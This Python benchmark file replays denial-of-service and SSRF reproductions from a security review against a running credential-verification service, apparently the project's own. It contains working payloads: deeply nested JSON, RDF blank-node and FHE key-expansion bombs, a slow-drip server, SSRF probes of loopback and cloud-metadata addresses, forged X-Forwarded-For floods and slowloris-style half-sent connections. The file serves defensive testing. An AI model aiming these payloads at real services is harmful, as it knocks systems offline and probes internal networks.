"""The attacks ``bench/hostile.py`` replays: each builds its input, sends it, and sums up the answer.

They are the reproductions of the hostile-input review (issue 13), sized as reported. The regression
tests (tests/api/test_hostile_server.py, test_load_shedding.py, tests/issuer, tests/did, tests/fhe)
assert the behaviour; this file only measures it against a running service.
"""

from __future__ import annotations

import base64
import itertools
import os
import socket
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import cv2
import httpx

from did import Ed25519KeyPair, did_key_from_public_key
from did._multiformats import multibase_b58_encode

ROOT = Path(__file__).resolve().parent.parent
TESTDATA = Path(os.environ.get("LIVECRED_TESTDATA_DIR", ROOT.parent / "shared/testdata"))
V1 = "https://www.w3.org/2018/credentials/v1"
LIVENESS = "http://localhost:5003/contexts/liveness/v1"  # the default deployment's context URL


@dataclass(frozen=True)
class Target:
    url: str
    pid: int


@dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[Target], str]
    env: Callable[[], dict[str, str]] = field(default=dict)


def face_body() -> dict[str, str]:
    image = cv2.imread(str(TESTDATA / "silentface_real_spoof/image_T1.jpg"))
    ok, buf = cv2.imencode(".jpg", image)
    assert ok
    return {"image": base64.b64encode(buf.tobytes()).decode()}


def _answer(response: httpx.Response) -> str:
    try:
        body = response.json()
    except ValueError:
        return str(response.status_code)
    code = body.get("code") or body.get("error") if isinstance(body, dict) else None
    if code is None and isinstance(body, dict) and "verified" in body:
        code = f"verified={body['verified']}"
    return f"{response.status_code} {code or ''}".strip()


_ADDRESSES = itertools.count(1)


def address(network: int = 10) -> str:
    """A fresh client address: the service trusts the bench as its proxy (``LIVECRED_TRUSTED_PROXIES``),
    so each request can come from another client, as in a flood from many machines."""
    n = next(_ADDRESSES)
    return f"{network}.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}"


def _post(target: Target, path: str, *, timeout: float = 300, client: str | None = None, **kwargs: Any) -> str:
    """POST from ``client`` (default: a fresh address), through the bench acting as trusted proxy."""
    headers = {**kwargs.pop("headers", {}), "X-Forwarded-For": client or address()}
    try:
        return _answer(httpx.post(target.url + path, timeout=timeout, headers=headers, **kwargs))
    except httpx.TimeoutException:
        return f"no answer in {timeout:.0f} s"
    except httpx.HTTPError as exc:
        return f"connection failed ({type(exc).__name__})"


def _counts(answers: list[str]) -> str:
    return ", ".join(f"{a} x{n}" for a, n in Counter(answers).most_common())


# -- 1. one request kills the process --------------------------------------------------------


def deep_json(target: Target) -> str:
    body = b"[" * 100_000 + b"]" * 100_000
    headers = {"content-type": "application/json"}
    return _counts([_post(target, p, content=body, headers=headers) for p in ("/credentials/verify", "/sessions")])


# -- 2. CPU bombs in credential verification -------------------------------------------------


def _unsigned_credential(**extra: Any) -> dict[str, Any]:
    """A credential of a fresh did:key issuer with a well-formed (but wrong) eddsa-rdfc-2022 proof."""
    key = Ed25519KeyPair.generate()
    issuer = did_key_from_public_key(key.public_key)
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    credential: dict[str, Any] = {
        "@context": [V1, LIVENESS, "https://w3id.org/security/data-integrity/v2"],
        "id": "urn:uuid:3f1f7c52-8f0e-4a8e-9a55-0d2b1f1d1c11",
        "type": ["VerifiableCredential", "LivenessCredential"],
        "issuer": issuer,
        "issuanceDate": now,
        "credentialSubject": {"id": issuer, "deviceType": "mobile", "timestamp": now},
        **extra,
    }
    credential["proof"] = {
        "type": "DataIntegrityProof",
        "cryptosuite": "eddsa-rdfc-2022",
        "created": now,
        "verificationMethod": f"{issuer}#{issuer.removeprefix('did:key:')}",
        "proofPurpose": "assertionMethod",
        "proofValue": multibase_b58_encode(key.sign(b"not the credential")),
    }
    return credential


def blank_node_bomb(nodes: int) -> Callable[[Target], str]:
    def run(target: Target) -> str:
        labels = [f"_:b{i}" for i in range(nodes)]
        evidence = [
            {"id": label, "type": "LivenessCheckEvidence", "verifier": [o for o in labels if o != label]}
            for label in labels
        ]
        credential = _unsigned_credential(evidence=evidence)
        return _post(target, "/credentials/verify", json={"verifiableCredential": credential})

    return run


def nested_subject(target: Target) -> str:
    credential = _unsigned_credential()
    node = credential["credentialSubject"]
    for _ in range(199):
        node = {"type": "VerifiableCredential", "credentialSubject": node}
    credential["credentialSubject"] = node
    return _post(target, "/credentials/verify", json={"verifiableCredential": credential})


# -- 3. memory bomb in encrypted matching ---------------------------------------------------------


def fhe_galois_bomb(target: Target) -> str:
    """A genuine public context (default parameters) whose Galois-key object is a zstd stream of one
    genuine key repeated for every slot, re-enveloped: under 1 MB on the wire, gigabytes loaded."""
    import sys

    import numpy as np

    sys.path.insert(0, str(ROOT))
    from fhe import CipherFace, encode_base64
    from livecred.fhe_engine import engine_model_spec
    from tests.fhe import seal_bombs

    holder = CipherFace(engine_model_spec())
    public = holder.public_context()
    galois = seal_bombs.repeated_galois_key(seal_bombs.context_objects(public).galois_keys)
    attack = seal_bombs.with_objects(public, galois_keys=galois)
    rng = np.random.default_rng(0)
    a, b = (holder.encrypt(rng.normal(size=128)).to_base64() for _ in range(2))
    body = {"publicContext": encode_base64(attack), "a": a, "b": b}
    return f"{_post(target, '/fhe/distance', json=body)} ({len(attack) / 1e6:.2f} MB context)"


# -- 4. outbound fetches ----------------------------------------------------------------------


class _Drip:
    """An HTTPS host (a test CA the service is told to trust) whose answer drips in: headers, then
    one byte of body every 4 s. Each read gets a byte in time, so per-read timeouts never fire."""

    def __init__(self) -> None:
        import sys
        import tempfile

        sys.path.insert(0, str(ROOT))
        from tests.did.local_servers import LocalServer, TestCA, drip

        self.directory = tempfile.mkdtemp(prefix="livecred-drip-")
        self.ca = TestCA(Path(self.directory))
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"
        tls = self.ca.issue("localhost").server_context()
        self.server = LocalServer(drip(head, b" ", interval=4.0), tls=tls)
        self.port = self.server.port


_DRIP: _Drip | None = None


def _drip() -> _Drip:
    global _DRIP
    if _DRIP is None:
        _DRIP = _Drip()
    return _DRIP


def _drip_env() -> dict[str, str]:
    # The drip host is on loopback: a service that refuses internal addresses must be told to allow
    # it (and to trust its CA), or this would measure the refusal instead of the deadline. An older
    # service (plain httpx) trusts the CA through SSL_CERT_FILE.
    drip = _drip()
    ca = str(drip.ca.pem)
    return {
        "LIVECRED_OUTBOUND_ALLOW_HOSTS": f"localhost:{drip.port}",
        "LIVECRED_OUTBOUND_CA_FILE": ca,
        "SSL_CERT_FILE": ca,
    }


def slow_drip(target: Target) -> str:
    """Two verifications of a credential whose issuer is a dripping did:web, and eight sessions
    whose holder is one: the reported freeze of /detect and of POST /sessions."""
    did = f"did:web:localhost%3A{_drip().port}"
    credential = _unsigned_credential()
    credential["issuer"] = did
    credential["proof"]["verificationMethod"] = did + "#key-1"
    sessions_for = [{"holderDid": f"{did}:user{n}", "deviceType": "mobile"} for n in range(8)]
    with ThreadPoolExecutor(10) as pool:
        verifies = [
            pool.submit(_post, target, "/credentials/verify", json={"verifiableCredential": credential}, timeout=60)
            for _ in range(2)
        ]
        sessions = [pool.submit(_post, target, "/sessions", json=body, timeout=60) for body in sessions_for]
        return _counts([f.result() for f in verifies + sessions])


def ssrf_probe(target: Target) -> str:
    """did:web holders at internal addresses: a closed port, an open silent one, metadata, decimal IP."""
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    closed_port = closed.getsockname()[1]
    closed.close()
    hosts = [f"127.0.0.1%3A{closed_port}", f"127.0.0.1%3A{silent.getsockname()[1]}", "169.254.169.254", "2130706433"]
    answers = []
    messages = set()
    for host in hosts:
        try:
            response = httpx.post(
                target.url + "/sessions",
                json={"holderDid": f"did:web:{host}", "deviceType": "mobile"},
                headers={"X-Forwarded-For": address()},
                timeout=60,
            )
            answers.append(_answer(response))
            messages.add(response.text)
        except httpx.HTTPError as exc:
            answers.append(type(exc).__name__)
    silent.close()
    return f"{_counts(answers)}; {len(messages)} distinct bodies"


# -- 5. load shedding -----------------------------------------------------------------------------


def _verify_body() -> dict[str, str]:
    image = face_body()["image"]
    return {"idImage": image, "selfieImage": image}


def flood_verify(target: Target) -> str:
    body = _verify_body()
    with ThreadPoolExecutor(64) as pool:
        answers = list(pool.map(lambda _: _post(target, "/verify", json=body, timeout=120), range(64)))
    return _counts(answers)


def abandoned_verify(target: Target) -> str:
    body = _verify_body()

    def fire(_: int) -> str:
        return _post(target, "/verify", json=body, timeout=0.3)

    with ThreadPoolExecutor(64) as pool:
        answers = list(pool.map(fire, range(256)))
    time.sleep(5)  # what the server still computes for clients that left
    return _counts(answers)


def big_bodies(target: Target) -> str:
    junk = base64.b64encode(os.urandom(9 * 1024 * 1024)).decode()
    body = {"idImage": junk, "selfieImage": junk}  # 24 MB, under the two-image limit
    with ThreadPoolExecutor(32) as pool:
        answers = list(pool.map(lambda _: _post(target, "/verify", json=body, timeout=120), range(32)))
    return _counts(answers)


def half_sent(target: Target) -> str:
    port = int(target.url.rsplit(":", 1)[1])
    socks = []
    for _ in range(1000):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"POST /detect HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n")
        socks.append(s)
    time.sleep(20)
    still_open = 0
    for s in socks:
        s.setblocking(False)
        try:
            still_open += s.recv(1) != b""
        except BlockingIOError:
            still_open += 1
        except OSError:
            pass
        s.close()
    return f"{still_open}/1000 still open after 20 s"


def _flood(target: Target, path: str, n: int, **kwargs: Any) -> str:
    """``n`` requests as fast as one client sends them, all from one address (the reported case)."""
    one = {"X-Forwarded-For": address(203)}
    with httpx.Client(base_url=target.url, timeout=60, headers=one) as client:
        answers = []
        for _ in range(n):
            try:
                answers.append(_answer(client.post(path, **kwargs)))
            except httpx.HTTPError as exc:
                answers.append(type(exc).__name__)
    return _counts(answers)


def session_flood(target: Target) -> str:
    holder = did_key_from_public_key(Ed25519KeyPair.generate().public_key)
    return _flood(target, "/sessions", 200, json={"holderDid": holder, "deviceType": "mobile"})


def nonce_flood(target: Target) -> str:
    return _flood(target, "/nonce", 500)


ATTACKS: list[Attack] = [
    Attack("deep_json", deep_json),
    Attack("blank_node_bomb_8", blank_node_bomb(8)),
    Attack("nested_subject_200", nested_subject),
    Attack("fhe_galois_bomb", fhe_galois_bomb),
    Attack("ssrf_probe", ssrf_probe),
    Attack("slow_drip_did_web", slow_drip, _drip_env),
    Attack("flood_verify_64", flood_verify),
    Attack("abandoned_verify_256", abandoned_verify),
    Attack("big_bodies_32x24MB", big_bodies),
    Attack("half_sent_1000", half_sent),
    Attack("session_flood_200", session_flood),
    Attack("nonce_flood_500", nonce_flood),
]
